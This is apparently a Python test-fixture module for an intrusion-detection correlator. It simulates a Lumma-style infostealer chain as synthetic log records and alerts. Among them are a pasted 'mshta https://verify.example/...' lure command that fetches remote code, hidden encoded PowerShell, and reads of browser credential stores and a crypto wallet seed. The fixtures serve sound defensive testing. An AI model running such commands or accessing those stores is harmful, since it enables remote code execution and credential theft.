"""Intrusions as logs for the tests of this room: the records, and the alerts that the pack's kind of rules make."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field

import builders as b
from douse.incident.correlate import correlate
from douse.model import Alert, Event, Incident

MSHTA = "C:\\Windows\\System32\\mshta.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
REGASM = "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegAsm.exe"
CHROME_STORE = "C:\\Users\\anna\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
OPERA_STORE = "C:\\Users\\anna\\AppData\\Roaming\\Opera Software\\Opera Stable\\Login Data"
FIREFOX_STORE = "C:\\Users\\anna\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\x1.default\\logins.json"
EXODUS_STORE = "C:\\Users\\anna\\AppData\\Roaming\\Exodus\\exodus.wallet\\seed.seco"
LURE = "mshta https://verify.example/a.mp3 # I am not a robot"
SERVER, LURE_SERVER, TELEGRAM = "203.0.113.44", "198.51.100.23", "149.154.167.99"


@dataclass
class Story:
    """Records of one host and the alerts on some of them."""

    events: list[Event] = field(default_factory=list)
    alerts: list[Alert] = field(default_factory=list)

    def log(self, *events: Event) -> None:
        self.events += events

    def alert(self, on: Event, letter: str, title: str, level: str = "medium", **more: object) -> Alert:
        """Log a record and raise an alert on it."""
        self.events.append(on)
        self.alerts.append(b.alert(on, letter, title, level, **more))  # type: ignore[arg-type] # keywords of alert()
        return self.alerts[-1]

    def read(self, by: b.Process, seconds: float, path: str, store: str, fidelity: float = 1.0) -> Alert:
        return self.alert(
            b.store_read(by, seconds, path),
            "C",
            f"Store of kind {store} read by a stranger",
            "medium",
            store=store,
            fidelity=fidelity,
        )

    def extend(self, other: Story) -> Story:
        return Story(self.events + other.events, self.alerts + other.alerts)

    def incidents(self) -> tuple[Incident, ...]:
        """What correlation makes of it."""
        return correlate(self.alerts, b.facts_of(self.events).host(b.HOST), b.coverage_of(self.events))

    def incident(self) -> Incident:
        """The only incident."""
        found = self.incidents()
        assert len(found) == 1, [i.verdict for i in found]
        return found[0]


def lumma(
    *, audit: bool = True, shape: str = "sysmon", user: b.User = b.ANNA, pid: int = 5000, later: float = 0.0
) -> Story:
    """W5: pasted command, mshta, PowerShell, hollowed RegAsm, dead drop, three stores, a connection."""
    story = Story()
    shell = b.explorer(4120 + pid % 97, user)
    mshta = b.process(MSHTA, pid, later, shell, f'"{MSHTA}" https://verify.example/a.mp3 # I am not a robot')
    power = b.process(POWERSHELL, pid + 4, later + 3, mshta, "powershell -w hidden -enc SQBFAFgA")
    regasm = b.process(REGASM, pid + 8, later + 9, power)
    story.alert(
        b.run_dialog(shell, later + 0.4, LURE, shape),
        "X",
        "Command Pasted Into the Run Dialog",
        "high",
        role="run-dialog",
        stage=1,
        techniques=("T1204.004",),
    )
    story.alert(
        b.process_start(mshta, shape),
        "X",
        "Pasted Command Started by Explorer",
        "high",
        role="paste-child",
        stage=1,
        fidelity=0.7,
        techniques=("T1204.004",),
    )
    story.alert(
        b.connection(mshta, later + 1, LURE_SERVER, 443, "verify.example", shape),
        "R",
        "Mshta Connected to the Internet",
        techniques=("T1218.005",),
    )
    story.alert(b.process_start(power, shape), "E", "PowerShell Started Hidden", techniques=("T1059.001",))
    story.alert(
        b.process_start(regasm, shape),
        "I",
        "Injection Host Started Without Arguments",
        "medium",
        role="injected-host",
        fidelity=0.7,
        techniques=("T1055.012",),
    )
    if shape == "sysmon":
        story.alert(
            b.injection(power, regasm, later + 9.5), "I", "Remote Thread Created by a Script", techniques=("T1055",)
        )
        story.alert(
            b.dns_query(regasm, later + 12, "t.me", f"::ffff:{TELEGRAM};"),
            "R",
            "Dead-Drop Site Looked Up",
            role="dead-drop",
            techniques=("T1102.001",),
        )
        story.log(b.connection(regasm, later + 12.2, TELEGRAM, 443, "t.me"))
    if audit:
        story.read(regasm, later + 15, CHROME_STORE, "chromium")
        story.read(regasm, later + 15.5, OPERA_STORE, "chromium")
        story.read(regasm, later + 16, FIREFOX_STORE, "gecko")
        story.read(regasm, later + 17, EXODUS_STORE, "wallet")
    story.alert(
        b.connection(regasm, later + 20, SERVER, 443, "", shape),
        "I",
        "Injection Host Connected",
        "high",
        role="injected-host",
        fidelity=0.7,
        techniques=("T1055.012", "T1071.001"),
    )
    story.log(b.process_end(mshta, later + 30, shape), b.process_end(regasm, later + 60, shape))
    return story


def ids(incident: Incident) -> set[str]:
    """The sequences of an incident."""
    return {hit.sequence_id for hit in incident.sequences}


def letters(incident: Incident) -> str:
    return "".join(score.evidence_class for score in incident.classes)


def titles(incidents: Iterable[Incident]) -> list[str]:
    return [incident.title for incident in incidents]
